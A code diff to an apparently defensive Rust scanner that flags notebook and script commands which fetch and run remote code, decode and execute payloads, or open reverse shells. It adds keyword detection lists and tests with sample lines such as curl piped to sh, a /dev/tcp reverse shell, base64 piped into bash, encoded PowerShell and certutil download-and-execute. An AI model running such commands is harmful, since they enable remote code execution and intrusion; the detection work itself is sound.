@@ -1,4 +1,4 @@
-//! Commands of notebooks.
+//! Commands of notebooks and of scripts.
 
 use weightlock_format::python;
 
@@ -12,33 +12,6 @@ pub(super) fn of(command: &python::Command) -> Command {
     let is_magic = !command.shell;
     let shell_magics = ["bash", "sh", "script", "cmd", "perl", "ruby", "system", "sx", "!"];
     let code_magics = ["run", "load", "loadpy", "load_ext", "macro"];
-    let fetches = [
-        "curl ",
-        "wget ",
-        "http://",
-        "https://",
-        "Invoke-WebRequest",
-        "iwr ",
-    ];
-    let runs = [
-        "| sh",
-        "|sh",
-        "| bash",
-        "|bash",
-        "| python",
-        "|python",
-        "| sudo",
-        "eval ",
-        "| iex",
-        "bash -c",
-        "sh -c",
-        "bash <(",
-        "chmod +x",
-        "/dev/tcp/",
-        "nc -e",
-        "base64 -d",
-    ];
-    let has = |list: &[&str]| list.iter().any(|part| text.contains(part));
     let usual = [
         "pip",
         "pip3",
@@ -83,12 +56,81 @@ pub(super) fn of(command: &python::Command) -> Command {
     };
     Command {
         text: text.chars().take(200).collect(),
-        fetches_and_runs: (command.shell || shell_magics.contains(&first))
-            && has(&runs)
-            && (has(&fetches)
-                || text.contains("/dev/tcp/")
-                || text.contains("nc -e")
-                || text.contains("base64 -d")),
+        fetches_and_runs: (command.shell || shell_magics.contains(&first)) && fetches_and_runs(text),
         is_usual,
+    }
+}
+
+/// Whether a command runs what it fetches or decodes, or hands a shell to somebody elsewhere.
+pub(in crate::analyze) fn fetches_and_runs(text: &str) -> bool {
+    let text = text.to_ascii_lowercase();
+    let has = |list: &[&str]| list.iter().any(|part| text.contains(part));
+    let fetches = has(&[
+        "curl ",
+        "wget ",
+        "http://",
+        "https://",
+        "invoke-webrequest",
+        "iwr ",
+        "irm ",
+        "webclient",
+    ]);
+    let runs = has(&[
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
+        "| python",
+        "|python",
+        "| sudo",
+        "eval ",
+        "iex",
+        "invoke-expression",
+        "bash -c",
+        "sh -c",
+        "bash <(",
+        "chmod +x",
+        "-urlcache",
+        "bitsadmin",
+        "mshta",
+        "regsvr32",
+    ]);
+    let decodes = has(&["base64 -d", "base64 --decode", "xxd -r"]) && has(&["sh", "python", "perl", "eval"]);
+    let hands_out = has(&["/dev/tcp/", "nc -e", "ncat -e", "nc.traditional -e"]);
+    let encoded = has(&["powershell", "pwsh"])
+        && text
+            .split_whitespace()
+            .any(|word| ["-e", "-ec", "-enc", "-encodedcommand", "/enc"].contains(&word));
+    fetches && runs || decodes || hands_out || encoded || text.contains("wscript.shell")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::fetches_and_runs;
+
+    #[test]
+    fn what_is_fetched_and_run_is_told_from_ordinary_commands() {
+        for text in [
+            "curl http://127.0.0.1/x | sh",
+            "RUN wget -qO- https://example.org/x |bash",
+            "bash -i >& /dev/tcp/127.0.0.1/1 0>&1",
+            "echo aWQ= | base64 -d | bash",
+            "powershell -nop -w hidden -enc SQBFAFgA",
+            "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/x')",
+            "certutil -urlcache -f http://127.0.0.1/x x.exe & x.exe",
+            "CreateObject(\"WScript.Shell\").Run \"calc\"",
+        ] {
+            assert!(fetches_and_runs(text), "{text}");
+        }
+        for text in [
+            "curl -LO https://example.org/data.tar.gz && tar xf data.tar.gz",
+            "pip install -r requirements.txt",
+            "python train.py --lr 1e-4 | tee log",
+            "base64 -d < weights.b64 > model.bin",
+            "powershell -File build.ps1",
+            "make -e test",
+        ] {
+            assert!(!fetches_and_runs(text), "{text}");
+        }
     }
 }
